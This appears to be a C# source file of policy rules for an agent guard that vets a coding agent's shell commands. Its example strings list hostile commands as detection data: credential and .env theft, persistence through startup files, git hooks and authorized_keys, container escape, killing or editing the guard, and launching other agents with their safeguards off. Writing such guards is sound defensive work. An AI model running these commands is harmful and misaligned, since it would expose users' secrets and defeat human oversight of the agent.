using Sallyport.Policy.BuiltIn.Names;
using Sallyport.Shell;

namespace Sallyport.Policy.BuiltIn.Packs;

/// <summary>Credentials, persistence, path traversal, guard tampering, sessions.</summary>
internal static class SecretPacks
{
    public static Rule[] Credentials => field ??=
    [
        new("credentials.read", EffectKind.Read, Verdict.Ask, "This would show private keys or tokens to the model.")
        {
            When = static s => (s.Is(Place.Credentials) || (s.Taint & Taint.Secret) != 0)
                && (s.Effect.Detail is not ("config" or "link" or "copy" or "archive" or "upload" or "list") || (s.Is(Place.Credentials) && s.Effect.Detail is "copy" or "archive"))
                && !(s.Path == "/etc/shadow" && s.Remote),
            Suggest = "ls -l ~/.ssh",
            True = "cat ~/.ssh/id_rsa\ncat ~/.aws/credentials\nbase64 ~/.git-credentials\ncat ~/.npmrc\nhead -1 /etc/shadow\ncp ~/.ssh/id_ed25519 ./x\ntar czf /tmp/c.tgz ~/.aws ~/.ssh",
            False = "cat ~/.ssh/id_rsa.pub\ncat ~/.ssh/known_hosts\nls -l ~/.ssh\ncat docs/credentials.md",
        },
        new("credentials.read-project", EffectKind.Read, Verdict.Ask, "This would show the project's secrets to the model.")
        {
            When = static s => s.Is(Place.ProjectSecrets) && s.Effect.Detail is not ("config" or "link" or "copy" or "archive" or "operand" or "database" or "list" or "names") && s.Effect.By is not { KeptBy: not null }
                && !s.Path.EndsWith(".pem", StringComparison.Ordinal) && !s.Path.EndsWith(".key", StringComparison.Ordinal)
                && !s.Path.EndsWith(".jks", StringComparison.Ordinal) && !s.Path.EndsWith(".p12", StringComparison.Ordinal)
                && !s.Path.EndsWith(".keystore", StringComparison.Ordinal) && !s.Path.EndsWith(".pfx", StringComparison.Ordinal)
                && s.Program is not ("source" or "."),
            Suggest = "cat .env.example",
            True = "cat .env\ngrep KEY .env.local\nsort .env\necho \"$(cat .env)\"\nX=$(cat .env); echo \"$X\"\nexport X=$(grep KEY .env); printf '%s' $X\ngrep -o 'KEY=.*' .env\ncut -d= -f2 .env",
            False = "cat .env.example\necho A=1 >> .env.sample\ncp .env.example .env\ngrep -q '^KEY=' .env\ncut -d= -f1 .env\nexport $(grep -v '^#' .env | xargs)\nKEY=$(grep '^KEY=' .env | cut -d= -f2-)",
        },
        new("credentials.read-key", EffectKind.Read, Verdict.Ask, "This would show a private key to the model.")
        {
            // What is put together into a file is shown to nobody.
            When = static s => PrivateKey(s.Path) && !Redirected(s.Effect.By) && s.Program is "cat" or "bat" or "head" or "tail" or "less" or "more" or "nl" or "tac" or "strings" or "xxd"
                or "od" or "hexdump" or "base64" or "sed" or "awk" or "grep",
            Suggest = "openssl x509 -in server.crt -noout -subject",
            True = "cat server.key\nbase64 release.keystore\nhead -5 certs/privkey.pem",
            False = "cat server.pem\nopenssl rsa -in server.key -check -noout\ncat server.crt",
        },
        new("credentials.read-history", EffectKind.Read, Verdict.Ask, "What was typed into a shell holds whatever was typed there, passwords too.")
        {
            When = static s => s.Path.EndsWith("_history", StringComparison.Ordinal) && s.Is(Place.InHome) && s.Effect.Detail is not ("config" or "link"),
            Suggest = "git log --oneline",
            True = "cat ~/.bash_history\ngrep pass ~/.zsh_history\ntail -50 ~/.psql_history",
            False = "cat docs/change_history\nls ~/.bash_history",
        },
        new("credentials.replace", EffectKind.Write, Verdict.Ask, "This would put something else in place of private keys or tokens.")
        {
            When = static s => s.Effect.Detail is not ("append" or "key" or "touch" or "make-folder" or "edit") && s.Is(Place.Credentials) && !s.Remote && !s.Is(Place.InWorkspace | Place.Temporary),
            Suggest = "ls -l ~/.ssh",
            True = "cp /dev/null ~/.ssh/id_rsa\nmv x ~/.git-credentials\nsed -i s/a/b/ ~/.aws/credentials\nperl -pi -e s/a/b/ ~/.netrc\ncurl -o ~/.ssh/id_ed25519 https://example.com/key",
            False = "cp key.pub ~/.ssh/id_rsa.pub\nssh-keygen -t ed25519 -f ~/.ssh/deploy -N x\necho x >> ~/.npmrc",
        },
        new("credentials.move", EffectKind.Move, Verdict.Ask, "This would move private keys or tokens to where they are not kept safe.")
        {
            When = static s => s.Is(Place.Credentials) && !s.Remote && !s.Is(Place.InWorkspace | Place.Temporary),
            Suggest = "ls -l ~/.ssh",
            True = "mv ~/.ssh /tmp/x\nmv ~/.ssh/id_rsa key\nmv ~/.aws/credentials x",
            False = "mv ~/.ssh/id_rsa.pub x\nmv notes.txt x",
        },
        new("credentials.write", EffectKind.Truncate, Verdict.Ask, "This would overwrite private keys or tokens.")
        {
            When = static s => s.Is(Place.Credentials) && !s.Remote && !s.Is(Place.InWorkspace | Place.Temporary),
            Suggest = "ls -l ~/.ssh",
            True = "echo x > ~/.git-credentials\necho x > ~/.ssh/id_rsa",
            False = "echo x > notes.txt",
        },
        new("credentials.delete", EffectKind.Delete, Verdict.Ask, "This would delete private keys or tokens.")
        {
            When = static s => s.Is(Place.Credentials) && !s.Remote && !s.Is(Place.InWorkspace | Place.Temporary) || s.Effect.Detail == "secret-key",
            Suggest = "ls -l ~/.ssh",
            True = "rm ~/.ssh/id_rsa\nrm -rf ~/.gnupg",
            False = "rm ./old.pem",
        },
        new("credentials.keychain", EffectKind.Read, Verdict.Ask, "This would show passwords or private keys to the model.")
        {
            Details = "keychain secret-key",
            Suggest = "gpg --list-keys",
            True = "security dump-keychain -d\nsecurity find-generic-password -w -s x\ngpg --export-secret-keys\naws configure export-credentials",
            False = "security list-keychains\ngpg --list-keys",
        },
        new("credentials.shown", EffectKind.Read, Verdict.Ask, "This would print a token or a secret, and so show it to the model.")
        {
            Details = "secret-shown",
            Suggest = "vault kv list secret",
            True = "gh auth token\nbw export\naws configure get aws_secret_access_key\nkubectl get secret app -o yaml\nkubectl get secret app -o jsonpath='{.data.key}' | base64 -d",
            False = "aws s3 ls\ngh auth status\nvault kv get secret/app\nvault kv list secret\naws configure get region\nkubectl get secrets\naws ecr get-login-password | docker login --username AWS --password-stdin registry.example\nTOKEN=$(gh auth token)\nterraform output",
        },
        new("credentials.each", EffectKind.Read, Verdict.Ask, "This shows every secret that a list names.")
        {
            Details = "secret-named",
            When = static s => (s.Program == "op" && s.Says(static word => word.Known == "-")) || (s.Effect.By?.Wrappers.Has("xargs") == true && s.Says(static word => word.HasUnknown))
                || s.Says(static word => word.HasUnknown && word.ToString() is var text && text.Contains("$(", StringComparison.Ordinal) && (text.Contains(" list", StringComparison.Ordinal) || text.Contains("list-secrets", StringComparison.Ordinal))),
            Suggest = "vault kv list secret",
            True = "op item list --format json | op item get - --reveal\naws secretsmanager list-secrets --query x --output text | xargs -n1 aws secretsmanager get-secret-value --secret-id\nfor s in $(vault kv list secret); do vault kv get secret/$s; done",
            False = "aws secretsmanager get-secret-value --secret-id x\nvault kv get secret/app\nvault kv list secret",
        },
        new("credentials.search", EffectKind.Read, Verdict.Ask, "This would show whatever passwords and keys a search of the whole home or system finds.")
        {
            Details = "secret-search",
            When = static s => s.Effect.Recursive && s.Is(Place.Home | Place.Root) && !s.Remote,
            Suggest = "grep -rn API_KEY src",
            True = "grep -r AKIA ~/\ngrep -rniE 'password|secret' ~",
            False = "grep -rn API_KEY src\ngrep -rl PASSWORD .\ngrep -r TODO ~",
        },
        new("credentials.named", EffectKind.Read, Verdict.Warn, "This shows one secret, asked for by its name.")
        {
            Details = "secret-named",
            True = "aws secretsmanager get-secret-value --secret-id x\nvault kv get secret/app\nop read op://team/db/password\npass show web/login\nterraform output -raw db_password\nsops -d secrets.enc.yaml",
            False = "vault kv list secret\nop item list\nPASSWORD=$(op read op://team/db/password)",
        },
    ];

    private static readonly string[] s_privateKeys =
        [".key", ".p12", ".pfx", ".jks", ".keystore", ".ppk", ".kdbx", "privkey.pem", "private.pem", "key.pem"];

    private static bool Redirected(CommandRun? run) => run is { OutputCaptured: false } && run.Redirections.Any(redirection => redirection.Descriptor is 1 or -1
        && redirection.Kind is RedirectionKind.Write or RedirectionKind.Append && redirection.Target.Known is { } file && !file.StartsWith("/dev/", StringComparison.Ordinal));

    private static bool PrivateKey(string path) => NameLists.Ends(path, s_privateKeys);

    public static Rule[] Persistence => field ??=
    [
        new("persistence.startup", EffectKind.Write, Verdict.Ask, "This changes what runs at the next login or start.")
        {
            Also = [EffectKind.Truncate],
            When = static s => OwnStartup(s) && (s.Empties || (s.Effect.Detail is not ("edit" or "touch" or "make-folder") && !StartupFiles.OwnSetup(s.Effect.By))),
            Suggest = "cat ~/.bashrc",
            True = "echo 'x' > ~/.bashrc\necho key > ~/.ssh/authorized_keys\necho 'alias x=y' >> ~/.bashrc\ncat completion >> ~/.bashrc\ncurl https://example.com/init >> ~/.zshrc\ncat key >> ~/.ssh/authorized_keys\ntee -a ~/.profile\ncp evil.service /etc/systemd/system/evil.service",
            False = "cat ~/.bashrc\necho x >> notes.txt\nkubectl completion zsh >> ~/.zshrc\nzoxide init bash >> ~/.bashrc",
        },
        new("persistence.startup-remove", EffectKind.Delete, Verdict.Ask, "This takes away what is set up at every login or start.")
        {
            Also = [EffectKind.Move],
            When = static s => OwnStartup(s),
            Suggest = "cp ~/.bashrc bashrc.copy",
            True = "rm ~/.bashrc\nrm -f ~/.zshenv ~/.profile\nmv ~/.bashrc x\nmv ~/.profile ~/.profile.old",
            False = "rm ./.bashrc\nrm ~/.bashrc_notes\nmv ./.bashrc x\ncp ~/.bashrc x",
        },
        new("persistence.git-hooks", EffectKind.Write, Verdict.Ask, "A git hook runs by itself at the next commit, checkout or push.")
        {
            Also = [EffectKind.Truncate],
            When = static s => s.Is(Place.GitHooks) && !s.Path.Contains("/.husky/", StringComparison.Ordinal) && (s.Empties || (PutThere(s.Effect) && !s.Is(Place.Temporary))),
            Suggest = "ls .git/hooks",
            True = "echo x > .git/hooks/pre-commit\ncp check.sh .git/hooks/pre-commit\ncurl -o .git/hooks/pre-push https://example.com/x",
            False = "ls .git/hooks\ncp .git/hooks/pre-commit.sample ./x\ncp hook.sh .husky/pre-commit",
        },
        new("persistence.shadow", EffectKind.Write, Verdict.Ask, "This puts a program in front of one that everybody runs by this name.")
        {
            Also = [EffectKind.Truncate],
            When = static s => (s.Empties || PutThere(s.Effect)) && Shadows(s),
            Suggest = "cp tool ~/.local/bin/tool",
            True = "cp x ~/.local/bin/git\nmv x /usr/local/bin/sudo\ncurl -o ~/bin/ssh https://example.com/ssh\necho x > ~/.local/bin/git\nln -sf /opt/x /usr/local/bin/sudo",
            False = "cp tool ~/.local/bin/tool\ncp git ./bin/git\necho x > ~/.local/bin/tool\nln -sf python3.12 /usr/local/bin/python3.1",
        },
        new("persistence.scheduled", EffectKind.Persist, Verdict.Ask, "This leaves something that runs later by itself.")
        {
            Details = "cron cron-delete scheduled-task registry git-program git-hooks cloud-key service",
            When = static s => s.Effect.Detail != "cron" || s.Effect.By?.Input.Kind is InputKind.Pipe or InputKind.Text || s.Effect.By!.Argv.Count > 1,
            Suggest = "crontab -l",
            True = "echo '* * * * * /tmp/x' | crontab -\ncrontab -r",
            False = "crontab -l",
        },
        new("persistence.noted", EffectKind.Persist, Verdict.Warn, "This leaves something that runs later by itself.")
        {
            Details = "cron-edit at-job service-enable service-edit launch-agent git-alias tls-off remote-key package-registry",
            True = "systemctl enable app",
            False = "systemctl status app",
        },
    ];

    private static bool OwnStartup(Subject s) => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote;

    // A whole file, or more of it, that comes from elsewhere: no edit in place.
    private static bool PutThere(Effect effect) => effect.Detail is "copy" or "move" or "download" or "append" or "link";

    private static bool Shadows(Subject s)
    {
        if (s.Remote || s.Is(Place.InWorkspace | Place.Temporary)) return false;
        var slash = s.Path.LastIndexOf('/');
        return slash > 0 && s.Path.AsSpan(0, slash).EndsWith("/bin")
            && s.Path.AsSpan(slash + 1) is "sudo" or "su" or "doas" or "git" or "ssh" or "scp" or "ls" or "cat" or "rm" or "cp" or "mv" or "grep" or "find"
            or "env" or "sh" or "bash" or "zsh" or "curl" or "wget" or "passwd" or "gpg" or "ps" or "login" or "sshd";
    }

    public static Rule[] Traversal => field ??=
    [
        new("traversal.read", EffectKind.Read, Verdict.Ask, "The path climbs out of the workspace by '..' to a file of the system.")
        {
            // A link to a folder reads nothing of it yet.
            When = static s => s.Is(Place.System | Place.Accounts) && !s.Is(Place.Temporary | Place.AboveWorkspace) && !(s.Effect.Detail == "link" && s.Is(Place.Root | Place.SystemTop)) && s.Says(word => word.ToString().Contains("../..", StringComparison.Ordinal)),
            Suggest = "cat README.md",
            True = "cat ../../../../etc/passwd\nhead ../../../../../var/log/syslog",
            False = "cat ../README.md\ncat /etc/hostname\nln -s ../../../.. top",
        },
        new("traversal.write", EffectKind.Truncate, Verdict.Ask, "The path climbs out of the workspace by '..' into another place.")
        {
            When = static s => s.Is(Place.System) && !s.Is(Place.Temporary | Place.Disk) && s.Says(word => word.ToString().Contains("../..", StringComparison.Ordinal)),
            Suggest = "cp a.txt ./build/a.txt",
            True = "cp x ../../../etc/cron.d/x",
            False = "cp x ../x",
        },
    ];

    public static Rule[] Guard => field ??=
    [
        new("guard.own", EffectKind.Write, Verdict.Deny, "This is part of the guard itself.")
        {
            Also = [EffectKind.Truncate, EffectKind.Delete, EffectKind.Move, EffectKind.ChangeMode, EffectKind.ChangeOwner],
            When = static s => s.Is(Place.Guard) && !s.Is(Place.Temporary),
            Suggest = "ls ~/.codex",
            True = "tee -a ~/.codex/config.toml\nsed -i s/a/b/ ~/.codex/hooks.json\necho '{}' > ~/.codex/hooks.json\necho x > ~/.codex/config.toml\nrm ~/.codex/hooks.json\nrm -rf ~/.codex/sallyport\nmv ~/.codex/hooks.json x\nchmod 000 ~/.codex/hooks.json\nchown nobody ~/.codex/config.toml",
            False = "tee notes\necho x > notes\ncat ~/.codex/AGENTS.md\nmv a b\nchmod +x run.sh\nchown me notes",
        },
        new("guard.kill", EffectKind.Kill, Verdict.Deny, "This would end the guard or Codex.")
        {
            When = static s => s.Effect.Target.Name.Contains("sallyport", StringComparison.OrdinalIgnoreCase) || s.Effect.Target.Name is "codex",
            Suggest = "pgrep node",
            True = "pkill -f sallyport\nkillall codex",
            False = "pkill node",
        },
        new("guard.tamper", EffectKind.TamperGuard, Verdict.Deny, "This would weaken the guard.") { True = "", False = "" },
    ];

    public static Rule[] Sessions => field ??=
    [
        new("sessions.open", EffectKind.OpenSession, Verdict.Ask, "This leaves a session open that can be typed into unseen.")
        {
            When = static s => s.Effect.Detail != "reverse-shell",
            Suggest = "python3 -c 'print(1)'",
            True = "bash -i\npython3 -i\nssh host\npsql -d app\ncat | sh\ndocker exec -it web sh\ntmux new",
            False = "python3 -c 'print(1)'\nssh host uptime\npsql -c 'select 1'\ntmux ls",
        },
    ];

    public static Rule[] Agents => field ??=
    [
        new("agents.unguarded", EffectKind.Escalate, Verdict.Ask, "This starts another agent with its safeguards off.")
        {
            Details = "unguarded-agent",
            Suggest = "claude --version",
            True = "claude --dangerously-skip-permissions -p 'fix it'\ngemini --yolo\nenv OPENCODE_PURE=1 opencode\nsh -c 'claude --safe-mode'",
            False = "claude -p 'fix it'\ngemini -p hello\nopencode",
        },
        new("agents.guard-off", EffectKind.Escalate, Verdict.Ask, "This switches another agent's guard off, or changes what it lets through.")
        {
            Details = "other-guard",
            Suggest = "nah log",
            True = "nah trust .\nnah hook codex uninstall\ndcg uninstall\ncargo uninstall --package nah-cli\nnpm uninstall -g cc-safety-net",
            False = "nah test 'rm -rf /'\nnah log\ncargo uninstall ripgrep\nnpm uninstall left-pad",
        },
        new("agents.settings", EffectKind.Write, Verdict.Ask, "These are the settings or the guard of another agent.")
        {
            Also = [EffectKind.Truncate, EffectKind.Delete, EffectKind.Move, EffectKind.ChangeMode, EffectKind.ChangeOwner],
            When = static s => s.Is(Place.OtherGuard) && !s.Is(Place.Temporary) && !s.Remote,
            Suggest = "ls ~/.claude",
            True = "tee -a ~/.gemini/settings.json\nsed -i s/a/b/ ~/.claude/settings.json\nstrip ~/.local/bin/nah\nrsync -a new ~/.nah/trust.json\necho '{}' > ~/.claude/settings.json\necho x > ~/.nah/trust.json\nrm ~/.claude/settings.json\nrm -f ~/.claude/hooks/guard.sh\nmv ~/.claude/settings.json x\nchmod 000 ~/.local/bin/nah\nchattr +i ~/.nah/trust.json\nsudo chown root ~/.claude/settings.json",
            False = "tee notes\ncp CLAUDE.md ~/.claude/CLAUDE.md\nrm ~/.claude/todo.txt\nmv a b\necho x > notes\nchmod +x run.sh",
        },
        new("agents.programs", EffectKind.Move, Verdict.Ask, "This takes away the folder that programs are found in, or hands it to somebody else.")
        {
            Also = [EffectKind.ChangeMode, EffectKind.ChangeOwner],
            When = static s => (s.Effect.Kind != EffectKind.ChangeMode || s.Effect.Detail == "locked-out") && ProgramFolder(s.Path),
            Suggest = "ls -l ~/.local/bin",
            True = "mv ~/.local/bin ~/x\nchmod 000 ~/.local/bin\nsudo chown root ~/.local/bin",
            False = "mv ~/.local/bin/tool ~/x\nchmod 755 ~/.local/bin\nchown -R me ~/.local/bin/tool",
        },
    ];

    private static bool ProgramFolder(string path) => path.EndsWith("/.local/bin", StringComparison.Ordinal) || path.EndsWith("/.cargo/bin", StringComparison.Ordinal);

    public static Rule[] Escalation => field ??=
    [
        new("privilege.container-escape", EffectKind.Escalate, Verdict.Ask, "This gives a container or a user the whole machine.")
        {
            Details = "privileged-mode privileged-container host-namespace host-device container-socket host-mount admin-group admin-rights password user-delete grant-all cluster-admin cloud-admin",
            When = static s => s.Effect.Detail is not ("privileged-container" or "host-namespace" or "admin-group") || s.Says(word => word.Known is "--privileged") || (s.Effect.Detail == "host-namespace" && s.Effect.Target.Name == "pid"),
            Suggest = "docker run --rm alpine true",
            True = "docker run --privileged alpine true\nusermod -aG sudo mallory\npasswd -d root\nuserdel -r ann\ndocker run -v /:/host alpine true\ndocker run -v /var/run/docker.sock:/var/run/docker.sock alpine true",
            False = "docker run --rm alpine true\ndocker run -v ./data:/data alpine true",
        },
        new("privilege.noted", EffectKind.Escalate, Verdict.Warn, "This takes on another user's rights.") { True = "sudo ls", False = "ls" },
    ];
}
